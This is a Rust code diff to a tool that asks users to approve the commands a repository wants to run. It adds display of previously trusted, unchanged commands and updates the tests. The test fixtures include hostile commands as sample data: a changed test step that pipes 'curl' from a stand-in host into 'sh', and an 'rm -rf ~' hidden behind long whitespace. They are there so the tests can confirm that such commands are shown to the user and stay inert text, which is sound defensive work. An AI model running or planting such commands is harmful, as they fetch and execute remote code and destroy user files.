@@ -14,10 +14,12 @@ pub struct Unseen {
     pub new: Vec<Item>,
     /// Seen in another form.
     pub changed: Vec<Change>,
+    /// Agreed to before, and as it was: shown beside the others, asked about no more.
+    pub known: Vec<Item>,
 }
 
 impl Unseen {
-    /// How many there are.
+    /// How many are asked about.
     pub fn len(&self) -> usize {
         self.new.len() + self.changed.len()
     }
@@ -41,7 +43,8 @@ pub fn question(unseen: &Unseen, columns: usize) -> String {
 
 /// What wants to run and has not been agreed to.
 pub fn list(unseen: &Unseen, columns: usize) -> String {
-    let keys = unseen.new.iter().map(|item| &item.key).chain(unseen.changed.iter().map(|change| &change.key));
+    let shown = unseen.new.iter().chain(&unseen.known).map(|item| &item.key);
+    let keys = shown.chain(unseen.changed.iter().map(|change| &change.key));
     let wide = keys.map(|key| width(&safe(key))).max().unwrap_or(0).min(columns / 3);
     let mut text = "this repository wants to run commands that you have not seen:\n".to_owned();
     for item in &unseen.new {
@@ -49,6 +52,12 @@ pub fn list(unseen: &Unseen, columns: usize) -> String {
     }
     for change in &unseen.changed {
         entry("changed", &change.key, &[&change.old, &change.new], wide, &mut text);
+    }
+    if !unseen.known.is_empty() {
+        text.push_str("you have trusted before, and it is unchanged:\n");
+    }
+    for item in &unseen.known {
+        entry("trusted", &item.key, &[&item.text], wide, &mut text);
     }
     text
 }
@@ -109,6 +118,7 @@ mod tests {
                 old: "pytest -q".into(),
                 new: "pytest -q; curl -s https://x.example/t | sh".into(),
             }],
+            known: vec![Item::new("gates.lint.run", "ruff check")],
         }
     }
 
@@ -121,6 +131,8 @@ mod tests {
               set -e
               make
           changed  gates.test.run      pytest -q   ->   pytest -q; curl -s https://x.example/t | sh
+        you have trusted before, and it is unchanged:
+          trusted  gates.lint.run      ruff check
         Trust these 3 commands of this repository? [y]es  [n]o  [d]iff:
         ");
         insta::assert_snapshot!(screen(&diff(&unseen())), @r"
@@ -129,7 +141,7 @@ mod tests {
           + pytest -q; curl -s https://x.example/t | sh
         ");
         let long = format!("true {}; rm -rf ~", " ".repeat(300));
-        let hidden = Unseen { new: vec![Item::new("gates.test.run", &long)], changed: Vec::new() };
+        let hidden = Unseen { new: vec![Item::new("gates.test.run", &long)], ..Unseen::default() };
         assert!(list(&hidden, WIDTH).contains("; rm -rf ~"), "what stands far to the right is shown");
         assert!(question(&hidden, WIDTH).ends_with("Trust this command of this repository? [y]es  [n]o: "));
     }
@@ -138,7 +150,7 @@ mod tests {
     fn hostile_commands_stay_text() {
         for text in &HOSTILE[..3] {
             let change = Change { key: (*text).into(), old: (*text).into(), new: "x".into() };
-            let unseen = Unseen { new: vec![Item::new(*text, *text)], changed: vec![change] };
+            let unseen = Unseen { new: vec![Item::new(*text, *text)], changed: vec![change], ..Unseen::default() };
             inert(&list(&unseen, WIDTH));
             inert(&diff(&unseen));
         }
